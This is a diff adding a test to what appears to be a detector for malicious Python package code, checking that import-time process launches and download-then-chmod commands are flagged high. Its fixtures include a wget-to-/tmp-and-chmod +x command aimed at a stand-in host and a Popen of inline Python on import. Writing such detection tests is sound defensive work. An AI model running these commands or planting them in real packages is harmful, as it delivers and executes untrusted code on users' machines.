@@ -126,3 +126,17 @@ test('setup.py running a program no build needs is high; build tools, queries an
     'when called',
   );
 });
+
+test('a second Python started with inline code on import, and a download made executable, are high', () => {
+  const inline =
+    'import subprocess\nsubprocess.Popen(["python3", "-c", "from helperpkg import stage"], stdout=subprocess.DEVNULL)\n';
+  const spawned = ruleOf(findings(inline, 'demo/__init__.py'), 'process-launch-payload');
+  assert.equal(spawned?.severity, 'high', 'on import');
+  assert.equal(
+    ruleOf(findings(`def f():\n    ${inline.split('\n')[1]}\n`), 'process-launch-payload'),
+    undefined,
+    'when called',
+  );
+  const fetch = 'import os\ndef go():\n    os.system("wget -qO /tmp/t https://files.example/t && chmod +x /tmp/t")\n';
+  assert.equal(ruleOf(findings(fetch), 'download-execute')?.severity, 'high', 'even when only called');
+});
